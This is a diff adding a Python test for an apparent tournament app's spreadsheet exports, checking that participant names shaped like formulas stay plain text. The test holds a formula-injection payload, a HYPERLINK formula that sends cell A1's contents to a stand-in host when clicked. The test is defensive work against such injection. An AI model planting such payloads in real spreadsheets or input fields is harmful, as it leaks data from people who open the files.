@@ -152,3 +152,23 @@ def test_results_workbook_has_a_row_per_seat_of_the_current_results(api, played,
         )
         assert type(values[9]) is int and type(values[6]) is int
     assert {r[10] for r in rows if (r[0], r[1]) == (1, 1)} == {2}  # the correction only
+
+
+# --------------------------------------------------------------------------- formulas
+
+
+def test_a_name_that_looks_like_a_formula_stays_text(api, played):
+    """A workbook holds no formula the software did not write (issue 12)."""
+    from tournaments.models import Participant
+
+    hostile = '=HYPERLINK("http://x?leak="&A1,"click")'
+    for index, participant in enumerate(Participant.objects.filter(tournament=played)):
+        participant.name = f'{hostile[:-2]}{index}")' if index else hostile
+        participant.save(update_fields=["name"])
+    for path in ("standings.xlsx", "results.xlsx"):
+        response = api.get(f"/api/tournaments/{played.pk}/{path}")
+        assert response.status_code == 200
+        workbook = _workbook(response.content)
+        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], path
+        assert hostile in [cell.value for cell in cells], path
